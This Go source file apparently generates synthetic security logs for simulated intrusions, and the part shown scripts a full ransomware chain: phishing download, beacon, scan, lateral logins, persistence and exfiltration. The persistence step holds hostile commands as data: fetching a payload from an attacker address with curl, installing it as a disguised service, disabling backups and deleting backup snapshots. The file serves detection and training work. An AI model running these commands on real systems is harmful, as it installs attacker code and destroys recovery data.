package gen

import "strconv"

// chains are whole intrusions, of several steps each.
func chains() []kind {
	return []kind{
		{Ransomware, 2, (*attack).ransomware},
		{BruteForce, 1, (*attack).bruteForce},
		{DNSTunnel, 1, (*attack).dnsTunnel},
		{Insider, 2, (*attack).insider},
		{Webshell, 1, (*attack).webshell},
	}
}

// ransomware: a mail's link in the morning, a beacon, a look around, an administrator's account, persistence, and theft at night.
func (a *attack) ransomware() {
	c, r, u := a.c, a.r, a.victim()
	dst, where := a.lair()
	at := a.day + 8*hour + r.Int64N(90*minute)

	a.step("phish")
	site := website{
		name: "docs-" + pick(r, webWords) + "share.top", org: "none", addrs: []addr{dst + 1}, country: where,
		category: &categories[16], app: &applications[1], median: 900_000,
	}
	f := flow{src: u.ip, sport: r.ephemeral(), dst: dst + 1, dport: 80, proto: 6, policy: polInternet, service: "HTTP", user: u, from: "Reserved", to: where.name, sent: 512}
	at = c.resolve(a.q, r, at, u.ip, site.name, "A", dst+1)
	a.q.put(at, c.fgt.web(a.q.buf(), r, at, &f, site.name, "/d/remittance_0603.zip", site.category, false))
	w := wire{src: u.ip, sport: f.sport, dst: dst + 1, dport: 80, proto: "TCP", id: flowID(r)}
	at += second
	a.q.put(at, eveHTTP(a.q.buf(), at, &w, site.name, "/d/remittance_0603.zip", u.agent, "application/zip", 913_442))
	f.action, f.seconds, f.rcvd, f.app, f.nat = "close", 3, 921_004, site.app, c.public
	c.finish(a.q, r, at, &f, &w, "http", 1)

	a.step("beacon")
	at += r.span(3*minute, 0.3)
	a.beacon(at, a.day+19*hour, 7*minute, u.ip, u, dst, where, 8447, "tcp/8447")

	a.step("scan")
	at = a.day + 13*hour + r.Int64N(hour)
	for third := range 3 {
		for host := range 16 {
			p := flow{
				src: u.ip, sport: r.ephemeral(), dst: ip(10, c.net, third, 5+host*3), dport: pick(r, []uint16{445, 3389, 22, 5985}), proto: 6,
				policy: polInside, action: "deny", user: u, mac: u.mac, from: "Reserved", to: "Reserved",
			}
			p.service = "tcp/" + strconv.Itoa(int(p.dport))
			a.q.put(at, c.fgt.traffic(a.q.buf(), r, at, &p))
			at += r.span(3*second, 0.6)
		}
	}

	a.step("lateral")
	admin := pick(r, c.admins)
	at = a.day + 17*hour + r.Int64N(hour)
	for _, role := range []string{"fs01", "bak01", "db01"} {
		a.login(at, c.servers[role], admin, u.ip, nil)
		at += r.span(9*minute, 0.4)
	}

	a.step("persist")
	at = a.day + 22*hour + r.Int64N(40*minute)
	for _, role := range []string{"fs01", "bak01"} {
		s := c.servers[role]
		a.login(at, s, admin, u.ip, []string{
			"/usr/bin/curl -so /usr/local/sbin/kworkerd http://" + dst.String() + ":8447/k", "/usr/bin/chmod 755 /usr/local/sbin/kworkerd",
			"/usr/bin/systemctl enable --now kworkerd.service", "/usr/bin/systemctl disable --now restic-backup.timer", "/usr/bin/rm -rf /backup/snapshots",
		})
		a.q.put(at+6*minute, s.systemd(a.q.buf(), at+6*minute, "Started kworkerd.service - Kernel worker daemon."))
		at += r.span(12*minute, 0.3)
	}

	a.step("exfiltrate")
	at = a.day + 25*hour + 40*minute + r.Int64N(30*minute)
	for range 9 {
		a.call(at, c.servers["fs01"].ip, nil, dst, where, 8447, "tcp/8447", 500, 3.1e9, 6e6)
		at += r.span(10*minute, 0.3)
	}
}
